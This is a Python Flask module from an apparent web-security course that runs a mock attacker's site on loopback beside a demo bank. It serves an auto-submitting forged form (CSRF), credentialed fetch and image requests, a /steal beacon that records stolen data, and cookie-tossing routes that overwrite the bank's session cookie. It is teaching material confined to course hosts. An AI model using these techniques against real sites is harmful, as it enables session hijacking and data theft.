"""The attacker's site for lesson 06: a second small server on 127.0.0.1, another site to the bank.

The bank is the demo server, visited as ``http://localhost:P``; this site is
visited as ``http://127.0.0.1:Q`` (a different site: Step 1 measures it). It
serves the pages an attacker would put up, and writes down what its pages
manage to send home (``loot``).

    GET /                            a landing page
    GET /form?action=URL&field=...   a form that posts itself to URL on load (a forged form)
    GET /link?href=URL               a link to URL, for the victim to click
    GET /fetch?url=URL               fetch(URL, {credentials: "include"}) on load
    GET /image?url=URL               <img src=URL>
    GET /steal?...                   what a stolen-data beacon brings home (recorded)
    GET /toss?kit=NAME               sets cookies on this page's host (as http://localhost:Q: cookie tossing)
"""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from flask import Flask, jsonify, make_response, request
from markupsafe import Markup
from werkzeug.exceptions import BadRequest, NotFound

from demo_server import context
from demo_server.browser.kits import ACCOUNT_PATH
from demo_server.browser.views import PIXEL
from demo_server.clock import ManualClock
from demo_server.runner import DemoServer, serve_app
from demo_server.web.errors import register_error_handlers

BANNER = "Totally legit prizes (the attacker's site)"
COLOUR = "#b42318"
MAX_URL = 2000
# The only hosts its pages may point the browser at: the course's own, all on loopback.
TARGET_HOSTS = ("localhost", "127.0.0.1", "bank.test")
# Cookies a page of this site sets on its own host (Step 7): as http://localhost:Q it shares the
# bank's host name, and cookies do not care about ports.
TOSS_KITS = {
    "shadow": (
        f"sid=attacker; Path={ACCOUNT_PATH}",
        f"__Host-sid=attacker; Secure; Path={ACCOUNT_PATH}",
    ),
    "overwrite": ("__Host-sid=attacker; Secure; Path=/",),
}


@dataclass
class Loot:
    """What the attacker's pages brought home, in order (thread-safe)."""

    _items: list[dict[str, str]] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, item: dict[str, str]) -> None:
        with self._lock:
            self._items.append(item)

    def since(self, count: int) -> list[dict[str, str]]:
        with self._lock:
            return list(self._items[count:])

    def __len__(self) -> int:
        with self._lock:
            return len(self._items)


def create_attacker_app() -> Flask:
    app = Flask("attacker_site")
    app.extensions[context.CLOCK] = ManualClock()  # the demo server's handler dates responses by it
    loot = Loot()
    app.extensions["loot"] = loot
    register_error_handlers(app)  # errors are JSON, as the demo server's are

    def page(title: str, body: Markup) -> str:
        return str(
            Markup(
                "<!doctype html><html lang=en><head><meta charset=utf-8><title>{title}</title>"
                "<style>body{{font:15px/1.4 system-ui,sans-serif;margin:0}}header{{padding:8px 14px;color:#fff;"
                "font-weight:600;background:{colour}}}main{{padding:10px 14px}}a{{font-size:20px}}</style></head>"
                "<body><header>{banner} <span style='font-weight:400'>· {host}</span></header><main>{body}</main>"
                "</body></html>"
            ).format(title=title, colour=COLOUR, banner=BANNER, host=request.host, body=body)
        )

    def target(name: str) -> str:
        url = request.args.get(name, "")
        try:
            parts = urlsplit(url)
            port = parts.port
        except ValueError:
            parts, port = None, None
        host = (parts.hostname or "") if parts else ""
        loopback = host in TARGET_HOSTS or host.endswith(".localhost")
        if not (parts and parts.scheme == "http" and loopback and port and not parts.username and len(url) <= MAX_URL):
            raise BadRequest(f"{name} must be an http:// URL on loopback (this site attacks only the course's bank)")
        return url

    @app.get("/health")
    def health():
        return jsonify({"status": "ok"})

    @app.get("/")
    def landing():
        return page("prizes", Markup("<h2>Congratulations!</h2><p>You have won. Nothing to do.</p>"))

    @app.get("/form")
    def forged_form():
        action = target("action")
        fields = Markup("").join(
            Markup("<input type=hidden name='{}' value='{}'>").format(name, value)
            for name, value in request.args.items(multi=True)
            if name != "action"
        )
        body = Markup(
            "<p>Claiming your prize…</p><form id=forged method=post action='{action}'>{fields}</form>"
            "<script>document.getElementById('forged').submit()</script>"
        ).format(action=action, fields=fields)
        return page("prize", body)

    @app.get("/link")
    def link():
        body = Markup("<p><a id=prize href='{href}'>Claim your prize</a></p>").format(href=target("href"))
        return page("prize", body)

    @app.get("/fetch")
    def fetch():
        url = json.dumps(target("url"))
        script = Markup(
            "<script>window.outcome = fetch({url}, {{credentials: 'include'}})"
            ".then(r => 'answered ' + r.status, e => 'blocked: ' + e.message)</script>"
        ).format(url=Markup(url))
        return page("prize", Markup("<p>Loading your prize…</p>") + script)

    @app.get("/image")
    def image():
        return page("prize", Markup("<img id=prize src='{src}' alt=''>").format(src=target("url")))

    @app.get("/steal")
    def steal():
        loot.add(request.args.to_dict(flat=True))
        response = make_response(PIXEL)
        response.mimetype = "image/gif"
        return response

    @app.get("/toss")
    def toss():
        kit = request.args.get("kit", "")
        if kit not in TOSS_KITS:
            raise NotFound(f"no kit {kit!r}; there are: {', '.join(TOSS_KITS)}")
        response = make_response(page("prize", Markup("<p>Nothing to see here.</p>")))
        for value in TOSS_KITS[kit]:
            response.headers.add("Set-Cookie", value)
        return response

    return app


@dataclass
class AttackerSite:
    """The running attacker site: ``url`` (http://127.0.0.1:Q), ``sibling_url`` (http://localhost:Q)."""

    server: DemoServer

    @property
    def port(self) -> int:
        return self.server.port

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def sibling_url(self) -> str:
        """The same server by the bank's host name: another origin, but the same site as the bank."""
        return f"http://localhost:{self.port}"

    @property
    def loot(self) -> Loot:
        return self.server.app.extensions["loot"]

    def stop(self) -> None:
        self.server.stop()

    def __repr__(self) -> str:
        return f"<AttackerSite {self.url} ({'running' if self.server.running else 'stopped'})>"


_site: AttackerSite | None = None
_lock = threading.Lock()


def start_attacker_site() -> AttackerSite:
    """Start the attacker's site (or return the one already running)."""
    global _site
    with _lock:
        if _site is None or not _site.server.running:
            _site = AttackerSite(serve_app(create_attacker_app()))
        return _site
